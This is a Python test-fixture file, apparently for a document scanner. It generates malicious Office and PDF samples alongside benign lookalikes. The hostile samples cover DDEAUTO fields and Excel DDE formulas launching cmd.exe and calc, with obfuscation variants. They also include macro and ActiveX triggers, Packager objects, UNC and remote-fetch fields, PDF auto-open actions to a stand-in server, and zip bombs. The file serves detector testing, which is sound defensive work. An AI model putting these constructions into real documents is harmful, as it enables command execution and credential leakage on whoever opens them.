"""Office documents that do something to whoever opens them, and everyday ones that look like them."""

import io
import zipfile

import docx
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from tests.infotheque.hostile import TYPES, bomb, office, open_text, open_text_with, pdf_with

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_BEGIN, _SEPARATE, _END = (f"<w:fldChar w:fldCharType='{turn}'/>" for turn in ("begin", "separate", "end"))
CALC = r"c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"


def code(text: str) -> str:
    return f"<w:r><w:instrText xml:space='preserve'>{text}</w:instrText></w:r>"


def field(*pieces: str, result: str = "") -> str:
    return f"<w:p>{_BEGIN}{''.join(pieces)}{_SEPARATE}{result}{_END}</w:p>"


def words(content: str, *, part: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    """A text of Word with this in one of its parts."""
    xml = f"<w:document xmlns:w='{_WORD}'>{content}</w:document>".encode(encoding)
    return office(**{"word/document.xml": b"<x/>", part: xml})


def sheet(content: str, *, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    return office(**{"xl/workbook.xml": b"<x/>", part: content.encode()})


def slide(content: str) -> bytes:
    parts = {"ppt/presentation.xml": b"<x/>", "ppt/slides/slide1.xml": content.encode()}
    return office(**parts)


def holding(content: bytes, *, name: str = "word/embeddings/oleObject1.bin", types: bytes = TYPES) -> bytes:
    return office(types=types, **{"word/document.xml": b"<x/>", name: content})


def old_container(stream: str) -> bytes:
    """Its head, and the name of a stream where a directory has it: across two readings."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * (64 * 1024 - 18)
        + stream.encode("utf-16-le")
        + b"\0" * 99
    )


def inside(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = holding(content, name="word/embeddings/document.docx")
    return content


def archive_of(**entries: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, entry in entries.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), entry)
    return content.getvalue()


_DDE_LINK = "<externalLink xmlns:x='x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
_DDE_SOURCE = (
    "<text:section><o:dde-source xmlns:o='o' o:dde-application='cmd' o:dde-topic='/c'/></text:section>"
)
_LISTENS = "<e:event-listener xmlns:e='e' xlink:href='vnd.sun.star.script:a.py$run?location=share'/>"
DDE = {
    "Word": words(field(code(f"DDEAUTO {CALC}"))),
    "Word, when asked": words(field(code(f" dde {CALC}"))),
    "Word, in pieces": words(field(code(" D"), code("DEA"), code("UTO"), code(f" {CALC}"))),
    "Word, with nothing around": words(code(f"DDEAUTO {CALC}")),
    "Word, in an attribute": words(f"<w:fldSimple w:instr='DDEAUTO {CALC}'/>"),
    "Word, its name from another field": words(field(field(code("QUOTE 68 68 69 65 85 84 79")), code(CALC))),
    "Word, its name from a field in short": words(
        field(code(" "), "<w:fldSimple w:instr='QUOTE 68 68 69'/>", code(CALC))
    ),
    "Word, in what another gives": words(field(code("TOC"), result=field(code(f"DDEAUTO {CALC}")))),
    "Word, in letters that are numbers": words(field(code(f"&#68;DE&#65;UTO {CALC}"))),
    "Word, in a text taken away": words(field(f"<w:r><w:delInstrText>DDEAUTO {CALC}</w:delInstrText></w:r>")),
    "Word, in a header": words(field(code(f"DDEAUTO {CALC}")), part="word/header1.xml"),
    "Word, in a part of any name": words(field(code(f"DDEAUTO {CALC}")), part="word/media/image1.png"),
    "Word, in another alphabet": words(field(code(f"DDEAUTO {CALC}")), part="a/b", encoding="utf-16"),
    "Word, far from the beginning": office(
        **{"word/document.xml": b"<x/>", "a/b": b"\n" * 90 + f"<a xmlns:w='w'>{code('DDE a')}</a>".encode()}
    ),
    "Word, in a document inside": inside(words(field(code(f"DDEAUTO {CALC}"))), 2),
    "Excel": sheet(_DDE_LINK, part="xl/externalLinks/externalLink1.xml"),
    "Excel, in a part of any name": sheet(_DDE_LINK, part="xl/a.bin"),
    "Excel, a formula": sheet("<s><c><f>cmd|'/c calc'!A0</f></c></s>"),
    "Excel, a formula, in quotes": sheet("<s><c><f>SUM(1)+'cmd'|'/c calc'!A0</f></c></s>"),
    "Excel, a name": sheet(
        "<w><definedName name='a'>cmd|'/c calc'!A0</definedName></w>", part="xl/names.xml"
    ),
    "Excel, a format": sheet("<s><cfRule><formula>MSEXCEL|'a'!b</formula></cfRule></s>"),
    "Excel, the function of LibreOffice": sheet(
        "<s><c><f>dde(&quot;soffice&quot;,&quot;a&quot;)</f></c></s>"
    ),
    "LibreOffice, a section": open_text_with(_DDE_SOURCE),
    "LibreOffice, a field": open_text_with("<text:dde-connection-decl office:dde-application='cmd'/>"),
    "LibreOffice, a table inside": office(
        **{
            "content.xml": b"<x/>",
            "META-INF/manifest.xml": b"<m/>",
            "Object 1/content.xml": b"<x xmlns:t='t'><t:dde-links><t:dde-link/></t:dde-links></x>",
        }
    ),
}
_CONTROL = TYPES.replace(b"/>", b"><Override ContentType='application/vnd.ms-office.activeX+xml'/></Types>")
PROGRAMS = {
    "a control of ActiveX": holding(b"<x/>", name="word/activeX/activeX1.xml", types=_CONTROL),
    "a button of PowerPoint": slide("<p xmlns:a='a'><a:hlinkClick action='ppaction://program'/></p>"),
    "a picture passed over": slide("<p xmlns:a='a'><a:hlinkMouseOver action=' PPACTION://Program'/></p>"),
}
ATTACHED = {
    "a file of the Packager": holding(old_container("\1Ole10Native")),
    "the same, in a part of any name": holding(old_container("\1Ole10Native"), name="word/media/a.png"),
    "the same, in a document inside": inside(holding(old_container("\1Ole10Native")), 1),
}
MACROS = {
    "a sheet of old Excel inside": holding(old_container("_VBA_PROJECT"), name="word/embeddings/a.xls"),
    "a sheet inside": holding(archive_of(xl__workbook_dot_xml=b"<x/>", xl__vbaProject_dot_bin=b"\0")),
    "a button of PowerPoint": slide("<p xmlns:a='a'><a:hlinkClick action='ppaction://macro?name=a'/></p>"),
    "LibreOffice, when it is opened": open_text_with(_LISTENS),
}
FETCHING = {
    "a text included": words(field(code(r"INCLUDETEXT &quot;https://loin.example/a.docx&quot;"))),
    "a picture of a server": words(field(code(r"INCLUDEPICTURE &quot;\\\\loin.example\\a.png&quot; \d"))),
    "a sheet of a server": words(field(code(r"LINK Excel.Sheet.12 \\\\loin\\a.xlsx Feuil1!L1C1 \a"))),
    "a picture, in short": words(r"<w:fldSimple w:instr='INCLUDEPICTURE \\loin.example\a.png'/>"),
    "a sheet that asks when it is opened": sheet(
        "<connections><connection id='1' refreshOnLoad='1'/></connections>", part="xl/connections.xml"
    ),
}
UNCONVERTED = {
    "a page of the web": words("<w:altChunk xmlns:r='r' r:id='a'/>"),
}
BOMBS = {
    "too deep": inside(archive_of(a_dot_txt=b"x"), 5),
    "one inside": inside(bomb(), 1),
    "a heavy archive": holding(b"PK\x03\x04" + b"\0" * 50_000_000),
}


def locked(archive: bytes) -> bytes:
    """The same, which says that its entries ask for a password."""
    first, last = archive.index(b"PK\x03\x04"), archive.index(b"PK\x01\x02")
    return archive[: first + 6] + b"\1" + archive[first + 7 : last + 8] + b"\1" + archive[last + 9 :]


LOCKED = {
    "an archive inside": holding(locked(archive_of(a_dot_txt=b"x"))),
    "a sheet in a document inside": inside(holding(locked(archive_of(a_dot_txt=b"x"))), 1),
}


def packed(how: int) -> bytes:
    """A text whose entries are packed as no office software does."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", how) as archive:
        archive.writestr("word/document.xml", b"<d xmlns:w='w'><w:t>mot</w:t></d>")
        archive.writestr("word/media/a.bin", b"<x>" + b"mot " * 30)
    return content.getvalue()


def everyday_word() -> bytes:
    """By the library that writes like Word: a page number, a table of contents, a link, a name to fill in."""
    document = docx.Document()
    for told in (
        "PAGE",
        r'TOC \o "1-3" \h \z \u',
        'HYPERLINK "https://www.adie.org/"',
        r"MERGEFIELD DDE \* Upper",
    ):
        run = document.add_paragraph("Bonjour").add_run()
        for turn in ("begin", None, "separate", "end"):
            element = OxmlElement("w:fldChar" if turn else "w:instrText")
            if turn:
                element.set(qn("w:fldCharType"), turn)
            else:
                element.text = f" {told} "
            run._r.append(element)
    content = io.BytesIO()
    document.save(content)
    return content.getvalue()


_BOOK = "<externalLink xmlns:r='r'><externalBook r:id='rId1'><sheetNames/></externalBook></externalLink>"
EVERYDAY = {
    "Word": everyday_word(),
    "Word, contents with their pages": words(
        field(
            code(r"TOC \o"),
            result=field(code("HYPERLINK \\l &quot;_Toc1&quot;"), result=field(code("PAGEREF _Toc1"))),
        )
    ),
    "Word, a letter to many": words(
        field(code("IF "), field(code("MERGEFIELD sexe")), code(" = &quot;F&quot;"))
    ),
    "Word, a sum": words(field(code("= "), field(code("PAGE")), code(" + 1"))),
    "Word, about DDE": words("<w:t>DDEAUTO a longtemps servi</w:t>" + field(code("REF DDE_1"))),
    "Word, a picture of the web": words(
        field(code("INCLUDEPICTURE &quot;https://a.example/a.png&quot; \\d"))
    ),
    "Word, a sheet of a disk": words(
        field(code(r"LINK Excel.Sheet.12 &quot;C:\\Users\\Zo\\a.xlsx&quot; \a \p"))
    ),
    "Word, a formula of mathematics": holding(old_container("Equation Native")),
    "Word, a chart and its figures": holding(
        sheet("<s><c><f>SUM(A1:A2)</f></c></s>"), name="word/embeddings/Microsoft_Excel_Sheet1.xlsx"
    ),
    "Word, a picture of the web's own kind": holding(
        b"<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'x'><svg/>",
        name="word/media/a.svg",
    ),
    "Word, a part that nothing reads": holding(b"<p>pas fini", name="customXml/item1.xml"),
    "Word, an archive cut": holding(b"PK\x03\x04" + b"\0" * 40),
    "Excel, a sheet of another file": office(
        **{
            "xl/workbook.xml": b"<x/>",
            "xl/worksheets/sheet1.xml": b"<s><c><f>[1]Feuil1!$A$1*2</f><v>4</v></c></s>",
            "xl/externalLinks/externalLink1.xml": _BOOK.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                b"<Relationships><Relationship Type='x/externalLinkPath' TargetMode='External'"
                b" Target='file:///C:/Users/Zo/Budget%202026.xlsx'/></Relationships>"
            ),
        }
    ),
    "Excel, bars in what is quoted": sheet(
        "<s><f>IF(A1=&quot;a|b&quot;,'x|y'!A1,T[a|b])</f><f>&quot;DDE(&quot;&amp;A1</f></s>"
    ),
    "Excel, what asks when it is told to": sheet(
        "<connections><connection id='1'/></connections>", part="xl/connections.xml"
    ),
    "PowerPoint": slide(
        "<p xmlns:a='a'><a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/></p>"
    ),
    "LibreOffice": open_text("Object 1/content.xml"),
}


_UNC = rb"(\\\\loin.example\\a.pdf)"
FETCHING_PDFS = {
    "when it is opened": pdf_with(b"/OpenAction<</S/GoToR/F%s/D[0/Fit]>>" % _UNC),
    "when its page is": pdf_with(
        b"", b"<</S/GoToE/F 5 0 R/D[0/Fit]>>", b"<</F%s>>" % _UNC, page=b"/AA<</O 4 0 R>>"
    ),
    "in numbers": pdf_with(b"/OpenAction 4 0 R", b"<</S/GoToR/F<5c5c 6c6f696e5c61>/D[0/Fit]>>"),
    "in another alphabet": pdf_with(
        b"/OpenAction 4 0 R", b"<</S/GoToR/F<</UF<FEFF005C005C006C>/Type/Filespec>>/D[0/Fit]>>"
    ),
    "with slashes": pdf_with(b"/OpenAction<</S/ImportData/F(//loin.example/a.fdf)>>"),
}
_LINK = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F%s/D[0/Fit]>>>>]"
EVERYDAY_PDFS = {
    "a link to the server of the office": pdf_with(b"", page=_LINK % _UNC),
    "opened at its first page": pdf_with(b"/OpenAction[3 0 R/Fit]", page=_LINK % _UNC),
    "opened by an action, with a link to a file beside": pdf_with(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", page=_LINK % b"(budget.pdf)"
    ),
    "a page of the web": pdf_with(
        b"/OpenAction<</S/Named/N/Print>>",
        page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example)>>>>]",
    ),
}
